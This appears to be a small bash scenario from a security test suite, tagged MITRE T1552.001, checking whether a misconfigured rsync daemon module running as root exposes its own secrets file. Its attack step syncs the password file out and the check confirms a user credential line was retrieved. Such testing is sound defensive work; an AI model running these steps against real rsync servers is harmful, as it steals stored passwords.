# SPDX-License-Identifier: Apache-2.0 OR MIT
# shellcheck shell=bash disable=SC2034,SC2154
technique=T1552.001
about="the configuration has a module for the daemon's own folder with the passwords"
attack() {
	configure <<-end
		[conf]
			path = /srv/rsync/etc
			uid = root
	end
	sync $url/conf/secrets "$state/answer"
}
before() { rm -rf "$state/answer"; }
effect() { grep -q '^joe:' "$state/answer"; }
